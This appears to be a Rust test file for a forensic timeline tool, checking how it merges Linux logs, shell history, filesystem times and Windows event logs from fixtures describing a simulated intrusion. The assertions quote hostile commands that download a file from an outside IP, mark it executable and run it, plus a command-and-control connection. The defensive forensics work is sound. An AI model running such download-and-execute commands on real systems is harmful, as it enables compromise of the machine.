//! Timelines over the fixtures in tests/fixtures/timeline (one intrusion
//! told by auth.log, syslog, a journald export, auditd, shell history, a
//! bodyfile and a scanner's JSON) and over the shared EVTX corpus.

use std::io::Write;
use std::path::{Path, PathBuf};

use bulwark_timeline::{
    Event, EventWriter, Format, OutputFormat, ReadOptions, Source, TimelineOptions, build, detect,
    format_ts, parse_time,
};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/timeline")
}

fn evtx_corpus() -> Option<PathBuf> {
    [
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpora/evtx"),
        PathBuf::from("/work/shared/corpora/evtx"),
    ]
    .into_iter()
    .find(|p| p.exists())
}

fn options(paths: Vec<PathBuf>) -> TimelineOptions {
    TimelineOptions {
        paths,
        read: ReadOptions { year: Some(2024) },
        ..TimelineOptions::default()
    }
}

fn events(options: &TimelineOptions) -> Vec<Event> {
    let (merged, _) = build(options).unwrap();
    merged.collect()
}

fn detect_file(p: &Path) -> Option<Format> {
    detect(&std::fs::read(p).unwrap())
}

#[test]
fn formats_are_detected_from_content_not_names() {
    let f = fixtures();
    assert_eq!(detect_file(&f.join("var/auth.log")), Some(Format::Syslog));
    assert_eq!(
        detect_file(&f.join("var/messages.log")),
        Some(Format::Syslog)
    );
    // A journald export named .log.
    assert_eq!(
        detect_file(&f.join("var/export.log")),
        Some(Format::Journald)
    );
    assert_eq!(detect_file(&f.join("var/audit.log")), Some(Format::Auditd));
    assert_eq!(
        detect_file(&f.join("home/deploy/.bash_history")),
        Some(Format::ShellHistory)
    );
    assert_eq!(
        detect_file(&f.join("var/zsh_history")),
        Some(Format::ShellHistory)
    );
    assert_eq!(detect_file(&f.join("var/body.txt")), Some(Format::Bodyfile));
    assert_eq!(
        detect_file(&f.join("var/scan-result.json")),
        Some(Format::Json)
    );
    assert_eq!(detect_file(&f.join("var/notes.txt")), None);
    assert_eq!(detect(b"ElfFile\0rest"), Some(Format::Evtx));
    assert_eq!(detect(&[0u8, 1, 2, 3, 0xff, 0xfe]), None);
    assert_eq!(detect(b""), None);
}

#[test]
fn one_ordered_timeline_from_every_linux_source() {
    let (merged, summary) = build(&options(vec![fixtures()])).unwrap();
    let all: Vec<Event> = merged.collect();
    assert!(
        all.windows(2).all(|w| w[0].timestamp <= w[1].timestamp),
        "not in time order"
    );
    assert_eq!(summary.kept as usize, all.len());
    let count = |s: Source| all.iter().filter(|e| e.source == s).count();
    assert_eq!(count(Source::Syslog), 9);
    assert_eq!(count(Source::Journald), 3);
    assert_eq!(count(Source::Auditd), 5);
    assert_eq!(count(Source::ShellHistory), 5);
    assert_eq!(count(Source::Bodyfile), 5);
    assert_eq!(count(Source::Json), 2);
    let unknown: Vec<_> = summary
        .inputs
        .iter()
        .filter(|i| i.source.is_none())
        .collect();
    assert_eq!(unknown.len(), 1, "{unknown:?}");
    assert!(unknown[0].path.ends_with("notes.txt"));

    // The first and last events, across sources.
    assert_eq!(format_ts(all[0].timestamp), "2024-05-01T09:50:00Z");
    assert_eq!(all[0].source, Source::Bodyfile);
    assert_eq!(
        format_ts(all.last().unwrap().timestamp),
        "2024-05-01T10:05:12Z"
    );

    let find = |pred: &dyn Fn(&Event) -> bool| all.iter().find(|e| pred(e)).cloned().unwrap();
    let failed =
        find(&|e| e.fields.get("action").and_then(|v| v.as_str()) == Some("failed_password"));
    assert_eq!(format_ts(failed.timestamp), "2024-05-01T10:00:01Z");
    assert_eq!(failed.host.as_deref(), Some("web01"));
    assert_eq!(failed.event_type, "sshd");
    assert_eq!(failed.fields["user"], "admin");
    assert_eq!(failed.fields["src_ip"], "203.0.113.7");
    let sudo = find(&|e| e.fields.get("action").and_then(|v| v.as_str()) == Some("sudo"));
    assert_eq!(
        sudo.fields["command"],
        "/usr/bin/curl -o /tmp/.x http://198.51.100.9/x"
    );

    // A zone offset is converted to UTC; RFC 5424 is read too.
    let nginx = find(&|e| e.event_type == "nginx");
    assert_eq!(format_ts(nginx.timestamp), "2024-05-01T10:01:20.000001Z");
    let backup = find(&|e| e.event_type == "backupd");
    assert_eq!(
        backup.message,
        "backupd: backup skipped: lock held by pid 2290"
    );

    // journald: microseconds, a binary-safe MESSAGE (byte array), the unit.
    let logind = find(&|e| e.event_type == "systemd-logind");
    assert_eq!(
        format_ts(logind.timestamp),
        "2024-05-01T10:01:10.250Z"
            .replace(".250Z", ".250000Z")
            .as_str()
    );
    let c2 = find(&|e| e.source == Source::Journald && e.event_type == "x");
    assert!(
        c2.message.starts_with("x: connect to 198.51.100.9:443"),
        "{}",
        c2.message
    );

    // auditd: EXECVE arguments decoded (quoted and hex), node= as host.
    let curl = find(&|e| e.event_type == "EXECVE" && e.message.contains("curl"));
    assert_eq!(
        curl.message,
        "EXECVE: curl -o /tmp/.x http://198.51.100.9/x"
    );
    let chmod = find(&|e| e.event_type == "EXECVE" && e.message.contains("chmod"));
    assert_eq!(chmod.fields["command_line"], "chmod +x /tmp/.x");
    assert_eq!(chmod.host.as_deref(), Some("web01"));
    let proctitle = find(&|e| e.event_type == "PROCTITLE");
    assert_eq!(proctitle.fields["proctitle"], "curl -o /tmp/.x ");

    // Shell history: the user from the path; an untimed line is skipped.
    let hist = find(&|e| e.source == Source::ShellHistory && e.message.contains("chmod"));
    assert_eq!(hist.fields["user"], "deploy");
    assert_eq!(hist.message, "deploy$ chmod +x /tmp/.x && /tmp/.x &");
    let bash = summary
        .inputs
        .iter()
        .find(|i| i.path.ends_with(".bash_history"))
        .unwrap();
    assert_eq!((bash.events, bash.skipped), (3, 1));

    // Bodyfile: one event per distinct time, with mactime's letters; a name holding `|`.
    let x: Vec<&Event> = all
        .iter()
        .filter(|e| e.source == Source::Bodyfile && e.fields["path"] == "/tmp/.x")
        .collect();
    let letters: Vec<&str> = x.iter().map(|e| e.event_type.as_str()).collect();
    assert_eq!(letters, ["m..b", "..c.", ".a.."]);
    assert_eq!(x[0].timestamp_desc, "Modification Time; Creation Time");
    assert!(all.iter().any(|e| e.fields.get("path").and_then(|p| p.as_str()) == Some("/var/www/odd|name.php")));

    // JSON results of another tool: nested arrays, RFC 3339 and epoch times.
    let json: Vec<&Event> = all.iter().filter(|e| e.source == Source::Json).collect();
    assert_eq!(json[0].event_type, "outbound_c2");
    assert_eq!(json[1].message, "Process /tmp/.x running from /tmp");
}

#[test]
fn time_range_and_source_filters() {
    let mut o = options(vec![fixtures()]);
    o.since = parse_time("2024-05-01T10:01:00Z");
    o.until = parse_time("2024-05-01T10:02:00Z");
    let ev = events(&o);
    assert!(!ev.is_empty());
    assert!(
        ev.iter()
            .all(|e| e.timestamp >= o.since.unwrap() && e.timestamp < o.until.unwrap())
    );
    o.sources = vec![Source::Auditd, Source::ShellHistory];
    let ev = events(&o);
    assert!(
        ev.iter()
            .all(|e| matches!(e.source, Source::Auditd | Source::ShellHistory))
    );
    assert_eq!(ev.len(), 5 + 3);
}

#[test]
fn spilled_runs_merge_to_the_same_order() {
    let in_memory = events(&options(vec![fixtures()]));
    let mut o = options(vec![fixtures()]);
    o.run_size = 3;
    let (merged, summary) = build(&o).unwrap();
    assert!(summary.spilled_runs >= 9, "{}", summary.spilled_runs);
    let spilled: Vec<Event> = merged.collect();
    assert_eq!(spilled, in_memory);
}

#[test]
fn output_formats() {
    let ev = events(&options(vec![fixtures().join("var/auth.log")]));
    let render = |f| {
        let mut w = EventWriter::new(Vec::new(), f);
        for e in &ev {
            w.write(e).unwrap();
        }
        String::from_utf8(w.finish().unwrap()).unwrap()
    };
    let ts = render(OutputFormat::Timesketch);
    let mut lines = ts.lines();
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    for required in ["message", "datetime", "timestamp_desc"] {
        assert!(header.contains(&required), "{header:?}");
    }
    let first = lines.next().unwrap();
    assert!(
        first.starts_with("sshd: Failed password for invalid user admin"),
        "{first}"
    );
    assert!(
        first.contains(",2024-05-01T10:00:01Z,1714557601000000,Log Entry,syslog,web01,sshd,"),
        "{first}"
    );
    let csv = render(OutputFormat::Csv);
    assert!(
        csv.starts_with("timestamp,source,host,event_type,timestamp_desc,message,file,fields\n")
    );
    assert_eq!(csv.lines().count(), ev.len() + 1);
    let jsonl = render(OutputFormat::Jsonl);
    let back: Vec<Event> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(back, ev);
}

#[test]
fn evtx_corpus_files_become_events() {
    let Some(dir) = evtx_corpus() else {
        eprintln!("shared EVTX corpus not present; skipped");
        return;
    };
    let file = dir.join("Execution/Exec_sysmon_meterpreter_reversetcp_msipackage.evtx");
    assert_eq!(detect_file(&file), Some(Format::Evtx));
    let (merged, summary) = build(&options(vec![file.clone()])).unwrap();
    let ev: Vec<Event> = merged.collect();
    assert!(ev.len() >= 5, "{summary:?}");
    assert!(ev.windows(2).all(|w| w[0].timestamp <= w[1].timestamp));
    assert!(
        ev.iter()
            .all(|e| e.source == Source::Evtx && e.host.is_some())
    );
    let sysmon = ev
        .iter()
        .find(|e| e.event_type == "Microsoft-Windows-Sysmon/Operational/1")
        .expect("a Sysmon process creation");
    assert!(sysmon.fields.contains_key("Image"), "{:?}", sysmon.fields);
    assert!(sysmon.message.contains("Image="), "{}", sysmon.message);
    assert_eq!(sysmon.fields["EventID"], "1");
}

#[test]
fn truncated_and_forged_evtx_do_not_stop_the_timeline() {
    let dir = tempfile::tempdir().unwrap();
    if let Some(corpus) = evtx_corpus() {
        let bytes = std::fs::read(
            corpus.join("Execution/Exec_sysmon_meterpreter_reversetcp_msipackage.evtx"),
        )
        .unwrap();
        // Header and part of the first chunk only.
        std::fs::write(dir.path().join("cut.evtx"), &bytes[..4096 + 30_000]).unwrap();
        std::fs::write(dir.path().join("tiny.evtx"), &bytes[..100]).unwrap();
    }
    let mut forged = b"ElfFile\0".to_vec();
    forged.extend((0..70_000u32).map(|i| (i.wrapping_mul(2654435761) >> 13) as u8));
    std::fs::write(dir.path().join("forged.evtx"), forged).unwrap();
    std::fs::write(
        dir.path().join("auth.log"),
        "May  1 10:00:01 h sshd[1]: ok\n",
    )
    .unwrap();
    let (merged, summary) = build(&options(vec![dir.path().to_path_buf()])).unwrap();
    let ev: Vec<Event> = merged.collect();
    assert!(
        ev.iter().any(|e| e.source == Source::Syslog),
        "the good file still counts"
    );
    let forged = summary
        .inputs
        .iter()
        .find(|i| i.path.ends_with("forged.evtx"))
        .unwrap();
    assert_eq!(forged.events, 0);
    assert!(!forged.notes.is_empty(), "{forged:?}");
}

#[test]
fn garbage_huge_lines_and_hostile_names() {
    let dir = tempfile::tempdir().unwrap();
    // Binary garbage is reported, not parsed.
    let garbage: Vec<u8> = (0..100_000u32)
        .map(|i| (i.wrapping_mul(2246822519) >> 7) as u8)
        .collect();
    std::fs::write(dir.path().join("garbage.bin"), garbage).unwrap();
    // A 3 MB line in the middle of a syslog file is cut, the lines around it kept.
    let mut log = std::fs::File::create(dir.path().join("big.log")).unwrap();
    writeln!(log, "May  1 10:00:01 h sshd[1]: before").unwrap();
    writeln!(log, "May  1 10:00:02 h app: {}", "A".repeat(3 << 20)).unwrap();
    writeln!(log, "May  1 10:00:03 h sshd[1]: after").unwrap();
    drop(log);
    // A file name with a newline, a comma and a quote; a symlink loop.
    let hostile = dir.path().join("evil\nname,\"x\".log");
    std::fs::write(&hostile, "May  1 10:00:04 h2 su[9]: pwned, \"quoted\"\n").unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(dir.path(), dir.path().join("loop")).unwrap();
    let (merged, summary) = build(&options(vec![dir.path().to_path_buf()])).unwrap();
    let ev: Vec<Event> = merged.collect();
    let msgs: Vec<&str> = ev.iter().map(|e| e.message.as_str()).collect();
    assert_eq!(msgs.len(), 4, "{summary:?}");
    assert_eq!(msgs[0], "sshd: before");
    assert!(msgs[1].len() <= bulwark_timeline::MAX_LINE + 100);
    assert_eq!(msgs[2], "sshd: after");
    let big = summary
        .inputs
        .iter()
        .find(|i| i.path.ends_with("big.log"))
        .unwrap();
    assert_eq!(big.skipped, 1, "the cut line is counted");
    let garbage = summary
        .inputs
        .iter()
        .find(|i| i.path.ends_with("garbage.bin"))
        .unwrap();
    assert_eq!(garbage.source, None);
    // The hostile name stays one CSV field.
    let mut w = EventWriter::new(Vec::new(), OutputFormat::Csv);
    w.write(&ev[3]).unwrap();
    let csv = String::from_utf8(w.finish().unwrap()).unwrap();
    assert!(csv.contains("\"su: pwned, \"\"quoted\"\"\""), "{csv}");
    assert!(
        csv.contains(&format!(
            "\"{}\"",
            hostile.display().to_string().replace('"', "\"\"")
        )),
        "{csv}"
    );
}

#[test]
fn directory_mac_times() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("dropped.bin");
    std::fs::write(&file, b"x").unwrap();
    let when = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_714_557_691);
    std::fs::File::options()
        .write(true)
        .open(&file)
        .unwrap()
        .set_modified(when)
        .unwrap();
    let o = TimelineOptions {
        mac_times: vec![dir.path().to_path_buf()],
        ..TimelineOptions::default()
    };
    let ev = events(&o);
    let m = ev
        .iter()
        .find(|e| e.fields["path"] == file.display().to_string() && e.event_type.starts_with('m'))
        .expect("a modification event");
    assert_eq!(format_ts(m.timestamp), "2024-05-01T10:01:31Z");
    assert_eq!(m.source, Source::Filesystem);
    assert!(m.timestamp_desc.contains("Modification Time"));
    // A missing input is an error that names it.
    let err = build(&options(vec![dir.path().join("nope")]))
        .err()
        .unwrap();
    assert!(err.to_string().contains("nope"), "{err}");
}
